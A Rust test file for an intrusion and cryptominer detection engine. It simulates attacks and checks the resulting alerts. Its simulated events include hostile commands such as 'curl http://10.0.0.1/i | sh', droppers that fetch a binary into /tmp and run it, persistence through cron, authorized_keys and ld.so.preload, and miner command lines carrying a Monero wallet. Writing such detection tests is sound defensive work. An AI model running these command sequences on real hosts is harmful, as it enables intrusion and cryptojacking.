//! Attacks that must be detected. `snapshots/` contains the alerts of some of them.

use crate::{
    engine::{Engine, EngineSettings},
    model::{
        Alert, AlertAction, ChainKind, ControlRegister, EventBody, Evidence, GeoLocation, IncidentId,
        Mapping, MappingClass, ProcessKey, Rounding, RoundingCounts, Verdict,
    },
    testing::{Host, alerts, feed, pass_time, seconds, story, verdict},
};

const MONERO: &str =
    "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A";

fn host() -> (Host, ProcessKey) {
    let mut host = Host::new();
    let init = host.boot("/usr/lib/systemd/systemd", &["systemd"]);
    (host, init)
}

/// Returns the incidents of the alerts, each once.
fn incidents(alerts: &[Alert]) -> Vec<IncidentId> {
    let mut incidents: Vec<_> = alerts.iter().map(|alert| alert.incident).collect();
    incidents.sort_unstable();
    incidents.dedup();
    incidents
}

/// Lets a script download a program into /tmp, make it executable and run it. The program opens a connection.
fn dropper(host: &mut Host, script: ProcessKey, path: &str) -> ProcessKey {
    let curl = host.spawn(script, "/usr/bin/curl", &["curl", "-so", path, "http://10.0.0.1:8000/x"]);
    host.connect(curl, "10.0.0.1:8000");
    host.create(curl, path, 0o644);
    host.exit(curl);
    let chmod = host.spawn(script, "/usr/bin/chmod", &["chmod", "+x", path]);
    host.chmod(chmod, path, 0o755);
    host.exit(chmod);
    let dropped = host.spawn(script, path, &[path]);
    host.connect(dropped, "10.0.0.5:443");
    dropped
}

/// Lets a person log in over SSH. Returns the login shell.
fn log_in(host: &mut Host, init: ProcessKey) -> ProcessKey {
    let sshd = host.spawn(init, "/usr/sbin/sshd", &["sshd"]);
    host.spawn(sshd, "/usr/bin/bash", &["-bash"])
}

#[test]
fn a_dropper_that_stays() {
    let (mut host, init) = host();
    let login = log_in(&mut host, init);
    let script = host.spawn_script(login, "/usr/bin/dash", "/root/install.sh");
    dropper(&mut host, script, "/tmp/x");
    host.create(script, "/etc/cron.d/x", 0o644);
    host.exit(script);
    let alerts = alerts(&host);
    assert_eq!(incidents(&alerts).len(), 1);
    let last = alerts.last().unwrap();
    assert_eq!(last.verdict, Verdict::Suspected);
    let kinds: Vec<_> = last.chain.iter().map(|edge| edge.kind).collect();
    assert_eq!(
        kinds,
        [
            ChainKind::Create,
            ChainKind::Create,
            ChainKind::Connect,
            ChainKind::Drop,
            ChainKind::Create,
            ChainKind::Modify,
            ChainKind::Create,
            ChainKind::Connect,
            ChainKind::Persist
        ]
    );
    insta::assert_snapshot!(story(&alerts));
}

#[test]
fn persistence_before_the_connection() {
    let (mut host, init) = host();
    let login = log_in(&mut host, init);
    let script = host.spawn_script(login, "/usr/bin/dash", "/root/install.sh");
    let wget = host.spawn(script, "/usr/bin/wget", &["wget", "-O", "/var/tmp/.x/kw", "http://10.0.0.1/kw"]);
    host.create(wget, "/var/tmp/.x/kw", 0o644);
    host.chmod(script, "/var/tmp/.x/kw", 0o755);
    let crontab = host.spawn(script, "/usr/bin/crontab", &["crontab", "-"]);
    host.create(crontab, "/var/spool/cron/crontabs/tmp.Ab1", 0o600);
    host.rename(crontab, "/var/spool/cron/crontabs/tmp.Ab1", "/var/spool/cron/crontabs/root");
    let dropped = host.spawn(script, "/var/tmp/.x/kw", &["[kworker/0:1]"]);
    host.connect(dropped, "10.0.0.5:3333");
    let alerts = alerts(&host);
    assert_eq!(incidents(&alerts).len(), 1);
    assert_eq!(alerts.last().unwrap().verdict, Verdict::Suspected);
    insta::assert_snapshot!(story(&alerts));
}

#[test]
fn an_exploited_service() {
    let (mut host, init) = host();
    let redis = host.spawn(init, "/usr/bin/redis-server", &["redis-server", "*:6379"]);
    host.become_user(redis, 33);
    host.wait(seconds(86_400));
    let shell = host.spawn(redis, "/usr/bin/dash", &["sh", "-c", "curl http://10.0.0.1/i | sh"]);
    let curl = host.spawn(shell, "/usr/bin/curl", &["curl", "http://10.0.0.1/i"]);
    let piped = host.spawn(shell, "/usr/bin/dash", &["sh"]);
    host.connect(curl, "10.0.0.1:80");
    host.exit(curl);
    let miner = dropper(&mut host, piped, "/dev/shm/.r");
    host.write(miner, "/var/lib/redis/.ssh/authorized_keys");
    host.burn(miner, 1.9, 61);
    let alerts = alerts(&host);
    assert_eq!(incidents(&alerts).len(), 1);
    let last = alerts.last().unwrap();
    assert_eq!(last.verdict, Verdict::Suspected, "no signal proves mining");
    assert!(last.score >= 100);
    insta::assert_snapshot!(story(&alerts[alerts.len() - 1..]));
}

#[test]
fn a_miner_whose_words_were_missed() {
    let (mut host, init) = host();
    let worker = host.spawn(init, "/usr/local/bin/worker", &["worker"]);
    host.connect(worker, "203.0.113.5:443");
    let job = r#"{"id":null,"method":"mining.notify","params":["a1","4d16b6f85af6e2198f44ae2a6de67f78487ae5611b77c6c0440b921e00000000","01","02",[],"20000000","1d00ffff","504e86ed",true]}"#;
    host.receive(worker, "203.0.113.5:443", format!("{job}\n"));
    assert_eq!(verdict(&host), Some(Verdict::Noted), "it may only listen");
    host.burn(worker, 1.9, 70);
    let alerts = alerts(&host);
    let last = alerts.last().expect("an alert");
    let ids: Vec<&str> = last.signals.iter().map(|signal| &*signal.id.0).collect();
    assert!(ids.contains(&"N2") && ids.contains(&"C5") && !ids.contains(&"N1"), "{ids:?}");
    assert_eq!(last.verdict, Verdict::Mining);
}

#[test]
fn cron_runs_later_what_was_dropped() {
    let (mut host, init) = host();
    let cron = host.spawn(init, "/usr/sbin/cron", &["cron"]);
    let login = log_in(&mut host, init);
    let script = host.spawn_script(login, "/usr/bin/dash", "/root/install.sh");
    // No temporary directory is used and nothing runs at once: only the cron entry is suspicious so far.
    host.create(script, "/usr/local/lib/update", 0o755);
    host.create(script, "/etc/cron.d/update", 0o644);
    host.exit(script);
    host.wait(seconds(3 * 3_600));
    let job = host.fork(cron);
    let shell = host.spawn(job, "/usr/bin/dash", &["sh", "-c", "/usr/local/lib/update"]);
    let again = host.spawn(shell, "/usr/local/lib/update", &["/usr/local/lib/update"]);
    host.connect(again, "10.0.0.5:3333");
    host.burn(again, 1.9, 61);
    let alerts = alerts(&host);
    assert_eq!(incidents(&alerts).len(), 1);
    assert_eq!(
        alerts.last().unwrap().incident.origin,
        script,
        "the incident starts with the process that wrote the file"
    );
    assert_eq!(
        alerts.last().unwrap().verdict,
        Verdict::Noted,
        "nothing is hidden, and no signal is about mining"
    );
    insta::assert_snapshot!(story(&alerts));
}

#[test]
fn a_script_dropped_by_one_and_run_by_cron() {
    let (mut host, init) = host();
    let cron = host.spawn(init, "/usr/sbin/cron", &["cron"]);
    let login = log_in(&mut host, init);
    let script = host.spawn_script(login, "/usr/bin/dash", "/root/install.sh");
    dropper(&mut host, script, "/tmp/x");
    host.create(script, "/tmp/again.sh", 0o755);
    host.create(script, "/etc/cron.d/x", 0o644);
    host.exit(script);
    host.wait(seconds(7_200));
    let job = host.spawn_script(cron, "/usr/bin/dash", "/tmp/again.sh");
    let curl = host.spawn(job, "/usr/bin/curl", &["curl", "http://10.0.0.7/y"]);
    host.connect(curl, "10.0.0.7:80");
    let alerts = alerts(&host);
    assert_eq!(incidents(&alerts).len(), 1);

    let mut engine = Engine::new(EngineSettings::default());
    let mut all = Vec::new();
    for event in host.events() {
        feed(&mut engine, event, &mut all);
    }
    let before = all.len();
    host.create(job, "/root/.bashrc", 0o644);
    host.create(job, "/etc/ld.so.preload", 0o644);
    for event in host.events().iter().rev().take(2).rev() {
        feed(&mut engine, event, &mut all);
    }
    pass_time(&mut engine, host.now().plus(seconds(3)), &mut all);
    assert!(all.len() > before, "the job's actions update the same incident");
    assert_eq!(incidents(&all).len(), 1);
    assert!(all.last().unwrap().chain.iter().any(|edge| edge.object == "10.0.0.7:80"));
}

#[test]
fn a_renamed_miner() {
    let (mut host, init) = host();
    let login = log_in(&mut host, init);
    let miner = host.spawn(
        login,
        "/usr/local/bin/systemd-helper",
        &["systemd-helper", "-o", "pool.example:443", "-u", MONERO, "--tls"],
    );
    host.connect(miner, "10.0.0.5:443");
    let alerts = alerts(&host);
    assert_eq!(alerts[0].verdict, Verdict::Mining);
    assert_eq!(alerts[0].signals[0].id.0, "B9");
    insta::assert_snapshot!(story(&alerts));
}

/// The worker is detected by its memory and its arithmetic alone, without a name, a connection or a file.
#[test]
fn a_quiet_worker_in_a_container() {
    let (mut host, init) = host();
    let shim = host.spawn(init, "/usr/bin/containerd-shim-runc-v2", &["containerd-shim-runc-v2"]);
    let worker = host.fork(shim);
    host.enter(worker, "4f1d0c9a8b7e6d5c4b3a29181706f5e4d3c2b1a0998877665544332211000001");
    host.exec(worker, shim, "/app/server", "/app/server", &["/app/server"]);
    let mapping = |class, size, count| EventBody::Mapping(Mapping { class, size, count, huge: true });
    host.happen(worker, mapping(MappingClass::Dataset, 2_181_038_080, 1));
    host.happen(worker, mapping(MappingClass::Code, 256 << 10, 1));
    host.happen(worker, mapping(MappingClass::Code, 256 << 10, 2));
    assert!(alerts(&host).iter().all(|alert| alert.verdict == Verdict::Noted), "memory alone pages nobody");
    let plain = RoundingCounts::default();
    for samples in [1, 3, 6] {
        let flushing = RoundingCounts { nearest: samples, down: samples, up: samples, zero: samples };
        host.wait(seconds(1));
        host.sample_rounding(worker, Rounding { register: ControlRegister::Mxcsr, flushing, plain });
    }
    let alerts = alerts(&host);
    let found = alerts.last().expect("an alert");
    assert_eq!(found.verdict, Verdict::Mining);
    assert!(found.container.is_some(), "the alert names the container");
    insta::assert_snapshot!(story(&alerts));
}

#[test]
fn a_miner_that_ran_before() {
    let (mut host, _) = host();
    host.boot("/tmp/kinsing (deleted)", &["kinsing", "--url=10.0.0.5:3333", "--user", MONERO]);
    let alerts = alerts(&host);
    assert_eq!(alerts.len(), 1);
    assert_eq!(alerts[0].verdict, Verdict::Mining);
    assert_eq!(alerts[0].action, AlertAction::IncidentOpened);
}

#[test]
fn a_rootkit_without_mining_is_tampering() {
    let (mut host, init) = host();
    let login = log_in(&mut host, init);
    let script = host.spawn_script(login, "/usr/bin/dash", "/root/x.sh");
    host.create(script, "/dev/shm/x", 0o755);
    let dropped = host.spawn(script, "/dev/shm/x", &["[kworker/1:0]"]);
    host.create(dropped, "/etc/ld.so.preload", 0o644);
    host.burn(dropped, 2.0, 61);
    let alerts = alerts(&host);
    let last = alerts.last().unwrap();
    assert_eq!(last.verdict, Verdict::Suspected);
    assert!(last.score >= 100, "without a mining signal, no score is enough");
    assert!(last.message.ends_with("suspected tampering"), "{}", last.message);
}

#[test]
fn one_container_is_one_incident() {
    let (mut host, init) = host();
    let shim = host.spawn(init, "/usr/bin/containerd-shim-runc-v2", &["containerd-shim-runc-v2"]);
    let one = host.fork(shim);
    host.enter(one, "c0ffee");
    host.exec(one, shim, "/app/server", "/app/server", &["server"]);
    let two = host.fork(shim);
    host.enter(two, "c0ffee");
    host.exec(two, shim, "/usr/bin/dash", "/usr/bin/dash", &["sh", "-c", "x"]);
    let other = host.fork(shim);
    host.enter(other, "decade");
    host.exec(other, shim, "/usr/bin/dash", "/usr/bin/dash", &["sh", "-c", "x"]);
    for (process, name) in [(one, "/tmp/a"), (two, "/tmp/b"), (other, "/tmp/c")] {
        dropper(&mut host, process, name);
    }
    let alerts = alerts(&host);
    assert_eq!(incidents(&alerts).len(), 2, "one for each container");
    assert!(alerts.iter().all(|alert| alert.container.is_some()));
}

#[test]
fn repeated_findings_are_folded() {
    let (mut host, init) = host();
    let service = host.spawn(init, "/usr/sbin/php-fpm8.2", &["php-fpm"]);
    for _ in 0..50 {
        host.wait(seconds(400));
        let shell = host.spawn(service, "/usr/bin/dash", &["sh", "-c", "curl http://10.0.0.1/x | sh"]);
        let curl = host.spawn(shell, "/usr/bin/curl", &["curl", "http://10.0.0.1/x"]);
        host.connect(curl, "10.0.0.1:80");
        host.exit(curl);
        host.exit(shell);
    }
    let alerts = alerts(&host);
    assert_eq!(alerts.len(), 1, "{}", story(&alerts));
    assert_eq!(alerts[0].verdict, Verdict::Noted);
}

#[test]
fn an_incident_closes_when_its_processes_have_ended_and_nothing_new_is_found() {
    let (mut host, init) = host();
    let script = host.spawn_script(init, "/usr/bin/dash", "/root/install.sh");
    let dropped = dropper(&mut host, script, "/tmp/x");
    host.exit(script);
    let mut engine = Engine::new(EngineSettings::default());
    let mut alerts = Vec::new();
    for event in host.events() {
        feed(&mut engine, event, &mut alerts);
    }
    let count = alerts.len();
    pass_time(&mut engine, host.now().plus(seconds(4_000)), &mut alerts);
    assert_eq!(alerts.len(), count, "it still runs");
    host.wait(seconds(4_001));
    host.exit(dropped);
    feed(&mut engine, host.events().last().unwrap(), &mut alerts);
    pass_time(&mut engine, host.now().plus(seconds(4_000)), &mut alerts);
    assert_eq!(alerts.len(), count + 1);
    let last = alerts.last().unwrap();
    assert_eq!(last.action, AlertAction::IncidentClosed);
    assert!(last.message.ends_with(": closed"), "{}", last.message);
    assert_eq!(engine.counters().incidents, 0);
}

#[test]
fn two_incidents_merge_into_one() {
    let (mut host, init) = host();
    let one = host.spawn_script(init, "/usr/bin/dash", "/root/one.sh");
    dropper(&mut host, one, "/tmp/one");
    let two = host.spawn_script(init, "/usr/bin/dash", "/root/two.sh");
    dropper(&mut host, two, "/tmp/two");
    host.spawn(two, "/tmp/one", &["/tmp/one"]);
    host.create(two, "/etc/cron.d/x", 0o644);
    let alerts = alerts(&host);
    let closed: Vec<_> = alerts.iter().filter(|alert| alert.action == AlertAction::IncidentClosed).collect();
    assert_eq!(closed.len(), 1, "{}", story(&alerts));
    assert_eq!(closed[0].incident.origin.pid, two.pid + 3);
    let last = alerts.last().unwrap();
    assert!(
        closed[0].message.ends_with(&format!("part of incident {}", last.incident)),
        "{}",
        closed[0].message
    );
    assert_eq!(last.verdict, Verdict::Suspected, "{}", story(&alerts));
}

#[test]
fn an_alert_contains_the_location_of_a_peer() {
    let mut host = Host::new();
    let init = host.boot("/sbin/init", &["init"]);
    let shell = host.spawn(init, "/usr/bin/bash", &["bash"]);
    host.create(shell, "/tmp/x", 0o755);
    let dropped = host.spawn(shell, "/tmp/x", &["/tmp/x"]);
    let peer = GeoLocation {
        country: Some("NL".into()),
        as_number: Some(64_500),
        as_organization: Some("Example Networks".into()),
        foreign: false,
    };
    host.connect_to(dropped, "203.0.113.9:443", Some(peer));
    let alerts = alerts(&host);
    let evidence: Vec<String> = alerts
        .iter()
        .flat_map(|alert| &alert.signals)
        .find(|signal| signal.id.0 == "N9")
        .map(|signal| {
            signal.evidence.iter().map(|Evidence { name, value, .. }| format!("{name}={value}")).collect()
        })
        .unwrap_or_default();
    assert_eq!(
        evidence,
        [
            "destination=203.0.113.9:443",
            "destination_country=NL",
            "destination_as_number=64500",
            "destination_as_organization=Example Networks",
        ]
    );
}
